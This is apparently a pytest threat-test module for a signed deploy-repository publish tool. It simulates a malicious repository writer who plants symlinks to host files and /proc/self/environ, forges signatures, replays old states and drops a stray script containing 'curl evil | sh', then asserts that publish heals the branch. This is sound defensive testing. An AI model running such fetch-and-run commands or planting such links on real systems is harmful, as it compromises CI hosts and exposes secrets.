"""Threat: a writer to the deploy repository (no signing key) attacks the CI host or freezes the fleet.

Publish must treat the deploy branch as data: nothing of it is checked out or followed, the branch
is made equal to the build byte for byte in one commit, and generations come from signed states.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from compiler.build import build
from compiler.bundle import DESIRED, SIGNATURE, DesiredState, load_public_key, verify_bundle, verify_signature
from compiler.publish import publish
from compiler.signing import keygen
from compiler.validate.pipeline import validate
from tests.conftest import copy_example, immediate_rollout

pytestmark = pytest.mark.slow  # 48 publishes to real bare repositories

DEVICE = "ipc-press-1"


def _git(*args: str, cwd: Path | None = None) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


class Deploy:
    """A published deploy repo, a key, a build, and a writer's checkout to attack it from."""

    def __init__(self, tmp: Path, built: Path) -> None:
        self.tmp = tmp
        self.spec, self.out = tmp / "spec", tmp / "out"
        shutil.copytree(built / "spec", self.spec)
        shutil.copytree(built / "out", self.out)
        self.remote = tmp / "deploy.git"
        _git("init", "-q", "--bare", str(self.remote))
        self.private, self.public, _ = keygen(tmp / "keys")
        self.first = publish(self.out, str(self.remote), "deploy", str(self.private), create_branch=True)
        self.attacker = tmp / "attacker"
        _git("clone", "-q", "--branch", "deploy", str(self.remote), str(self.attacker))
        _git("config", "user.email", "mallory@example.invalid", cwd=self.attacker)
        _git("config", "user.name", "mallory", cwd=self.attacker)
        # what lives on the CI host beside the checkout: a directory and a shell rc file
        self.host_dir = tmp / "host"
        (self.host_dir / "victim").mkdir(parents=True)
        (self.host_dir / "victim" / "keep.txt").write_text("keep me\n")
        self.rc = tmp / "bashrc"
        self.rc.write_text("# the CI user's shell start-up file\n")

    @property
    def digest(self) -> str:
        return self.state().bundles[0].digest

    def push(self, message: str = "mallory") -> None:
        _git("add", "-A", cwd=self.attacker)
        _git("commit", "-q", "--allow-empty", "-m", message, cwd=self.attacker)
        _git("push", "-q", "origin", "HEAD:deploy", cwd=self.attacker)

    def publish(self):
        return publish(self.out, str(self.remote), "deploy", str(self.private))

    def show(self, path: str) -> bytes:
        return subprocess.run(
            ["git", "--git-dir", str(self.remote), "show", f"deploy:{path}"], check=True, capture_output=True
        ).stdout

    def state(self, device: str = DEVICE) -> DesiredState:
        return DesiredState.parse(self.show(f"devices/{device}/{DESIRED}"))

    def assert_branch_is_the_build(self) -> None:
        """A fresh checkout: every device state verifies, every bundle verifies, no link anywhere."""
        co = self.tmp / f"check-{len(list(self.tmp.glob('check-*')))}"
        _git("clone", "-q", "--branch", "deploy", str(self.remote), str(co))
        entries = _git("--git-dir", str(self.remote), "ls-tree", "-r", "deploy").splitlines()
        assert all(line.split()[0] in ("100644", "100755") for line in entries), entries
        trusted = [load_public_key(self.public.read_bytes())]
        index = json.loads((self.out / "index.json").read_text())
        for dev, refs in index["devices"].items():
            data = (co / "devices" / dev / DESIRED).read_bytes()
            verify_signature(data, (co / "devices" / dev / SIGNATURE).read_bytes(), trusted)
            assert [b.digest for b in DesiredState.parse(data).bundles] == [r["digest"] for r in refs]
        for d in (co / "bundles").iterdir():
            assert verify_bundle(d, d.name)[1] == []
        bundle_files = {
            p.relative_to(co).as_posix() for p in (co / "bundles").rglob("*") if p.is_file() or p.is_symlink()
        }
        expected = {
            f"bundles/{d.name}/{p.relative_to(d).as_posix()}"
            for d in (self.out / "bundles").iterdir()
            for p in d.rglob("*")
            if p.is_file()
        }
        assert bundle_files == expected

    def host_untouched(self) -> None:
        assert (self.host_dir / "victim" / "keep.txt").read_text() == "keep me\n"
        assert sorted(p.name for p in self.host_dir.rglob("*")) == ["keep.txt", "victim"]
        assert self.rc.read_text() == "# the CI user's shell start-up file\n"


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example, built once for the module (each test gets its own copy)."""
    base = tmp_path_factory.mktemp("built")
    immediate_rollout(copy_example("press-line-anomaly", base / "spec"))
    build(validate(base / "spec"), base / "out", run_gates=False)
    return base


@pytest.fixture
def deploy(tmp_path: Path, built: Path) -> Deploy:
    return Deploy(tmp_path, built)


def _link_paths(d: Deploy) -> list[str]:
    digest = d.digest
    return [
        "bundles",
        f"bundles/{digest}",
        f"bundles/{digest}/runner.json",
        f"bundles/{digest}/{'MANIFEST.json'}",
        "devices",
        f"devices/{DEVICE}",
        f"devices/{DEVICE}/{DESIRED}",
        f"devices/{DEVICE}/{SIGNATURE}",
    ]


LINK_TARGETS = ["host-dir", "host-rc", "/dev/zero", "/proc/self/environ", "dangling"]


@pytest.mark.parametrize("target", LINK_TARGETS)
@pytest.mark.parametrize("which", range(8))
def test_threat_deploy_writer_plants_symlinks_to_the_ci_host(deploy: Deploy, which: int, target: str):
    path = _link_paths(deploy)[which]
    victim = deploy.attacker / path
    shutil.rmtree(victim) if victim.is_dir() else victim.unlink()
    link_to = {"host-dir": deploy.host_dir, "host-rc": deploy.rc, "dangling": deploy.tmp / "nowhere"}.get(
        target, target
    )
    victim.symlink_to(link_to)
    deploy.push(f"replace {path} with a link to {target}")
    res = deploy.publish()
    deploy.host_untouched()
    assert res.commit is not None, "the branch must be healed"
    assert path in res.repaired or any(p.startswith(f"{path}/") for p in res.repaired)
    deploy.assert_branch_is_the_build()
    assert deploy.publish().commit is None  # healed: the next publish has nothing to do


def test_threat_tampered_bundle_file_is_healed_byte_for_byte(deploy: Deploy):
    runner = deploy.attacker / "bundles" / deploy.digest / "runner.json"
    runner.write_text("{}")
    deploy.push()
    res = deploy.publish()
    assert res.commit and res.repaired == [f"bundles/{deploy.digest}/runner.json"]
    assert res.changed == []  # devices keep their generation: only the bytes are repaired
    deploy.assert_branch_is_the_build()


def test_threat_executable_bits_and_stray_files_in_a_bundle_are_healed(deploy: Deploy):
    bundle = deploy.attacker / "bundles" / deploy.digest
    (bundle / "runner.json").chmod(0o755)
    (bundle / "extra.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (deploy.attacker / "README.md").write_text("not from the build\n")
    deploy.push()
    res = deploy.publish()
    assert set(res.repaired) == {
        f"bundles/{deploy.digest}/runner.json",
        f"bundles/{deploy.digest}/extra.sh",
        "README.md",
    }
    deploy.assert_branch_is_the_build()


def test_threat_submodule_entry_is_removed(deploy: Deploy):
    head = _git("rev-parse", "HEAD", cwd=deploy.attacker).strip()
    _git("update-index", "--add", "--cacheinfo", f"160000,{head},bundles/sub", cwd=deploy.attacker)
    _git("commit", "-q", "-m", "gitlink", cwd=deploy.attacker)
    _git("push", "-q", "origin", "HEAD:deploy", cwd=deploy.attacker)
    res = deploy.publish()
    assert "bundles/sub" in res.repaired
    deploy.assert_branch_is_the_build()


def test_threat_corrupted_signature_is_healed_without_a_new_generation(deploy: Deploy):
    gen = deploy.state().generation
    (deploy.attacker / "devices" / DEVICE / SIGNATURE).write_text('{"keyId":"0","signature":"AAAA"}\n')
    deploy.push()
    res = deploy.publish()
    assert res.commit and res.repaired == [f"devices/{DEVICE}/{SIGNATURE}"]
    assert deploy.state().generation == gen
    deploy.assert_branch_is_the_build()


@pytest.mark.parametrize("forged_generation", [0, 1, 10**6])
def test_threat_unsigned_generation_never_sets_the_next_one(deploy: Deploy, forged_generation: int):
    deploy.publish()
    (deploy.spec / "specs/targets.yaml").write_text(
        (deploy.spec / "specs/targets.yaml").read_text().replace("memory: 4Gi", "memory: 6Gi")
    )
    build(validate(deploy.spec), deploy.out, run_gates=False)
    deploy.publish()  # ipc-press-3 is now at generation 2
    signed = deploy.state("ipc-press-3").generation
    assert signed == 2
    state_file = deploy.attacker / "devices" / "ipc-press-3" / DESIRED
    _git("pull", "-q", "origin", "deploy", cwd=deploy.attacker)
    doc = json.loads(state_file.read_text())
    doc["generation"] = forged_generation
    state_file.write_text(json.dumps(doc))
    deploy.push("reset the generation")
    deploy.publish()
    assert deploy.state("ipc-press-3").generation == signed  # restored from the signed history
    (deploy.spec / "specs/targets.yaml").write_text(
        (deploy.spec / "specs/targets.yaml").read_text().replace("memory: 6Gi", "memory: 5Gi")
    )
    build(validate(deploy.spec), deploy.out, run_gates=False)
    res = deploy.publish()
    assert res.changed == ["ipc-press-3"] and deploy.state("ipc-press-3").generation == signed + 1
    deploy.assert_branch_is_the_build()


def test_threat_state_signed_by_another_key_is_replaced(deploy: Deploy, tmp_path: Path):
    from compiler.bundle import sign
    from compiler.signing import load_private_key

    other, _, _ = keygen(tmp_path / "other")
    ddir = deploy.attacker / "devices" / DEVICE
    doc = json.loads((ddir / DESIRED).read_text())
    doc["generation"] += 100
    data = (json.dumps(doc, sort_keys=True, separators=(",", ":")) + "\n").encode()
    (ddir / DESIRED).write_bytes(data)
    (ddir / SIGNATURE).write_bytes(sign(data, load_private_key(str(other))))
    deploy.push()
    deploy.publish()
    assert deploy.state().generation == 1  # the forged +100 is not ours: the signed generation stands
    deploy.assert_branch_is_the_build()


def _bump(deploy: Deploy, old: str, new: str) -> None:
    targets = deploy.spec / "specs/targets.yaml"
    targets.write_text(targets.read_text().replace(old, new))
    build(validate(deploy.spec), deploy.out, run_gates=False)
    deploy.publish()


def _generations_published(deploy: Deploy) -> int:
    for n, mem in enumerate(["5Gi", "6Gi", "7Gi"]):
        _bump(deploy, ["4Gi", "5Gi", "6Gi"][n], mem)
    return deploy.state("ipc-press-3").generation


@pytest.mark.parametrize("attack", ["delete-devices", "replay-first-state"])
def test_threat_fast_forward_pushes_never_roll_generations_back(deploy: Deploy, attack: str):
    """No force-push needed: delete the states, or re-commit an older signed one; devices saw generation 4."""
    seen = _generations_published(deploy)
    assert seen == 4
    _git("pull", "-q", "origin", "deploy", cwd=deploy.attacker)
    ddir = deploy.attacker / "devices" / "ipc-press-3"
    if attack == "delete-devices":
        shutil.rmtree(deploy.attacker / "devices")
    else:
        first = _git("rev-list", "--max-parents=0", "HEAD", cwd=deploy.attacker).strip()
        for name in (DESIRED, SIGNATURE):
            (ddir / name).write_bytes(
                subprocess.run(
                    ["git", "show", f"{first}:devices/ipc-press-3/{name}"],
                    cwd=deploy.attacker,
                    check=True,
                    capture_output=True,
                ).stdout
            )
    deploy.push(attack)
    deploy.publish()
    assert deploy.state("ipc-press-3").generation == seen  # what devices accepted, restored
    _bump(deploy, "7Gi", "8Gi")
    assert deploy.state("ipc-press-3").generation == seen + 1


def test_threat_a_file_where_publish_keeps_a_folder_is_repaired_not_a_crash(deploy: Deploy):
    (deploy.attacker / "clusters").write_text("not a folder\n")
    (deploy.attacker / "devices" / "x").write_text("stray\n")
    deploy.push()
    res = deploy.publish()
    assert res.commit and {"clusters", "devices/x"} <= set(res.repaired)
    deploy.assert_branch_is_the_build()


def test_threat_a_deleted_bundle_file_is_repaired_and_reported(deploy: Deploy):
    (deploy.attacker / "bundles" / deploy.digest / "runner.json").unlink()
    deploy.push()
    res = deploy.publish()
    assert res.repaired == [f"bundles/{deploy.digest}/runner.json"]
    deploy.assert_branch_is_the_build()
